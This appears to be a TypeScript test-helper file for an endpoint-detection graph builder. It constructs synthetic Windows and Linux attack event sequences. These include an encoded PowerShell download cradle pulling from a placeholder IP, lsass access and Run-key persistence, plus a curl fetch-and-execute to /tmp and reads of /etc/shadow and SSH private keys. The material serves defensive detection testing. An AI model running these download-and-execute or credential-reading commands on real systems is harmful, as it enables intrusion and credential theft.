import type { EventData, EventType, NormalizedEvent, Platform } from '../contracts/event.ts';
import { type HeteroGraph, RELATIONS, type WindowOf } from '../contracts/graph.ts';
import { idOf } from '../contracts/ids.ts';
import { buildGraph } from './build-graph.ts';
import { addToPane, emptyPane, type Pane } from './pane.ts';

/** Tick of the windows in tests. */
export const END = 1_700_000_100;

/** An event of a test's endpoint, so many seconds after the window's start. */
export function eventAt(
  platform: Platform,
  seconds: number,
  type: EventType,
  data: EventData,
): NormalizedEvent {
  return {
    schema_version: 1,
    event_id: idOf('event', platform, String(seconds), type),
    tenant_id: 'default',
    endpoint_id: 'ws-1',
    hostname: 'ws-1',
    platform,
    source: platform === 'windows' ? 'sysmon' : 'auditd',
    event_type: type,
    timestamp: END - 180 + seconds,
    ingested_at: END,
    data,
    warnings: [],
  };
}

/** The window of a test's endpoint. */
export function windowOf(platform: Platform, end = END): WindowOf {
  const start = end - 180;
  return { tenantId: 'default', endpointId: 'ws-1', hostname: 'ws-1', platform, start, end };
}

/** Six panes with the events in them, taken in the order given. */
export function panesOf(platform: Platform, events: readonly NormalizedEvent[]): readonly Pane[] {
  const panes = Array.from({ length: 6 }, (_, i) => emptyPane(platform, END - 180 + i * 30));
  for (const event of events) {
    const pane = panes[Math.floor((event.timestamp - (END - 180)) / 30)];
    if (pane) addToPane(pane, event);
  }
  return panes;
}

/** The graph of a test's events. */
export function graphOf(platform: Platform, events: readonly NormalizedEvent[]): HeteroGraph {
  return buildGraph(windowOf(platform), panesOf(platform, events));
}

/** A graph's edges as text: `source -relation-> target ×count`. */
export function told(graph: HeteroGraph): readonly string[] {
  const relations = RELATIONS[graph.window.platform];
  return Array.from(graph.source, (source, edge) => {
    const name = relations[graph.relation[edge] ?? 0]?.name;
    return `${graph.labels[source]} -${name}-> ${graph.labels[graph.target[edge] ?? 0]} ×${graph.count[edge]}`;
  });
}

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";

/** Who and where, so that a test can tell the same story of somebody else. */
export interface Cast {
  readonly user: string;
  readonly address: string;
}

/** A document that starts an encoded PowerShell, told by two sensors. */
export function windowsAttack({ user, address }: Cast): readonly NormalizedEvent[] {
  const actor = { process_guid: '{A1}', process_id: 500, image: POWERSHELL };
  const encoded = Buffer.from(PAYLOAD, 'utf16le').toString('base64');
  const dropped = `C:\\Users\\${user}\\AppData\\x.exe`;
  const at = (seconds: number, type: EventType, data: EventData) => eventAt('windows', seconds, type, data);
  return [
    at(1, 'process_create', {
      ...actor,
      command_line: `powershell.exe -nop -w hidden -enc ${encoded}`,
      integrity_level: 'High',
      user: `ACME\\${user}`,
      parent_process_guid: '{A0}',
      parent_process_id: 400,
      parent_image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    }),
    at(35, 'network_connect', {
      ...actor,
      protocol: 'tcp',
      destination_ip: address,
      destination_port: 80,
      initiated: true,
    }),
    at(40, 'script_block', { process_id: 500, script_text: 'Get-Process lsass' }),
    at(41, 'registry_value', {
      ...actor,
      target_object: 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd',
      details: dropped,
    }),
    ...[50, 51, 52].map((seconds) =>
      at(seconds, 'process_access', {
        process_guid: '{A1}',
        process_id: 500,
        source_image: POWERSHELL,
        target_process_guid: '{B0}',
        target_process_id: 640,
        target_image: 'C:\\Windows\\System32\\lsass.exe',
        granted_access: '0x1410',
        call_trace: 'ntdll.dll+1|UNKNOWN(0001)',
      }),
    ),
    at(60, 'file_create', { process_guid: '{A1}', target_filename: dropped }),
    at(61, 'image_load', { process_guid: '{A1}', image_loaded: dropped, signed: false }),
  ];
}

/** A shell behind a web server that looks around, fetches and runs a tool and reads secrets. */
export function linuxAttack({ user, address }: Cast): readonly NormalizedEvent[] {
  const at = (seconds: number, type: EventType, data: EventData) => eventAt('linux', seconds, type, data);
  const shell = { process_id: 71, image: '/usr/bin/dash', user_id: '33' };
  return [
    at(2, 'process_create', {
      process_id: 71,
      parent_process_id: 70,
      parent_image: '/usr/sbin/nginx',
      syscall: 'fork',
    }),
    at(3, 'process_create', {
      ...shell,
      parent_process_id: 70,
      command_line: `sh -c "curl http://${address}/t -o /tmp/t; chmod +x /tmp/t"`,
    }),
    at(4, 'process_create', {
      process_id: 71,
      image: '/usr/bin/curl',
      parent_process_id: 70,
      command_line: `curl http://${address}/t -o /tmp/t`,
      user_id: '33',
    }),
    at(5, 'network_connect', {
      process_id: 71,
      image: '/usr/bin/curl',
      protocol: 'tcp',
      destination_ip: address,
      destination_port: 80,
    }),
    at(6, 'file_write', { process_id: 71, image: '/usr/bin/curl', target_filename: '/tmp/t' }),
    at(40, 'process_create', { process_id: 80, image: '/tmp/t', parent_process_id: 71, user_id: '0' }),
    at(41, 'syscall', { process_id: 80, syscall: 'setuid', success: true }),
    at(42, 'file_read', { process_id: 80, target_filename: '/etc/shadow' }),
    at(43, 'file_read', { process_id: 80, target_filename: '/usr/lib/locale/C/LC_TIME' }),
    at(44, 'file_read', { process_id: 80, target_filename: '/usr/lib/locale/C/LC_NAME' }),
    at(45, 'file_read', { process_id: 80, target_filename: `/home/${user}/.ssh/id_rsa` }),
  ];
}
